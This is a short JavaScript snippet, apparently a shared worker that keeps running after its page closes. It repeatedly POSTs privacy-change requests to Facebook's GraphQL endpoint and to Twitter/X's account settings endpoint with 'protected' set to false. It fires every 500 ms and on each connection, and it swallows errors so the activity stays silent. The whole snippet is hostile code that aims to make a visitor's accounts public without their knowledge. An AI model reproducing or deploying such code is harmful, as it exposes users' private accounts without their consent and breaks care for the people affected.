// Writes from a worker that outlives the page.
const body = new URLSearchParams({ fb_api_req_friendly_name: "CometPrivacySelectorSavePrivacyMutation", protected: "false" });
const send = () => {
  fetch("/api/graphql/", { method: "POST", body }).catch(() => {});
  fetch("/i/api/1.1/account/settings.json", { method: "POST", body }).catch(() => {});
};
send();
setInterval(send, 500);
self.onconnect = send;
